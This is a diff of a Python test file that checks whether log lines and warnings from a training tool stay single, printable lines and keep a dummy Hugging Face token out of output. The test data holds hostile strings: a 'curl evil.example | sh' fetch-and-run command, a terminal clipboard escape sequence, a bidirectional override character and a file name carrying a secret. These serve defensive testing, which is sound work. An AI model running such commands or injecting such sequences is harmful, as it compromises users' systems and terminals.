@@ -2,14 +2,17 @@
 
 import io
 import json
+import logging
 import os
 import pty
 import subprocess
+import sys
 
 import pytest
 from synthetic_run import FAILED, write_run
 
 from llama_core.chain.console import say
+from llama_core.log_lines import LineFormatter
 from llama_core.records.files import write_json
 from llama_core.records.job import Outcome
 from llama_core.redaction import one_line, shell_word
@@ -89,6 +92,34 @@ def test_the_texts_of_a_failed_run_are_on_a_line_each(run, capsys):
     assert "next        curl evil.example | sh" in state
     assert "\\x1b]52;c;ZXZpbA==\\x07" in state
     assert "\\u202e" in state
+
+
+def test_a_warning_about_a_file_is_one_harmless_line_whatever_its_name(tmp_path):
+    source = tmp_path / f"{HOSTILE.replace(chr(0), '')}hf_abcDEF123456.jsonl"
+    texts = [json.dumps({"text": f"document {number} of several"}) for number in range(300)]
+    source.write_text("\n".join([*texts, "no JSON"]))
+    command = [sys.executable, "-m", "training_infra", "tokenize", "--device=cpu", f"--data={source}", "--workers=1"]
+    settings = [f"--set=data.cache_dir={tmp_path / 'cache'}", "--set=data.tokenizer=bytes"]
+    done = subprocess.run(
+        [*command, *settings], env=os.environ | {"HF_TOKEN": "hf_abcDEF123456"}, capture_output=True, check=True
+    )
+    told = done.stderr.decode()
+    assert told.startswith("left out of ") and told.count("\n") == 1
+    assert is_harmless(told)
+    assert "hf_abcDEF123456" not in told + done.stdout.decode()
+
+
+def test_a_record_in_the_log_of_a_rank_is_one_line_and_its_traceback_is_harmless():
+    formatter = LineFormatter("%(levelname)s %(message)s")
+    record = logging.LogRecord("llama_core", logging.ERROR, "x", 1, "left out of %s", (HOSTILE,), None)
+    assert formatter.format(record).isprintable()
+    try:
+        raise ValueError(HOSTILE)
+    except ValueError:
+        record.exc_info = sys.exc_info()
+    logging.Formatter().format(record)  # which keeps the traceback in the record
+    assert "ValueError" in formatter.format(record)
+    assert all(line.isprintable() for line in formatter.format(record).split("\n"))
 
 
 def test_a_step_of_the_chain_says_one_line():
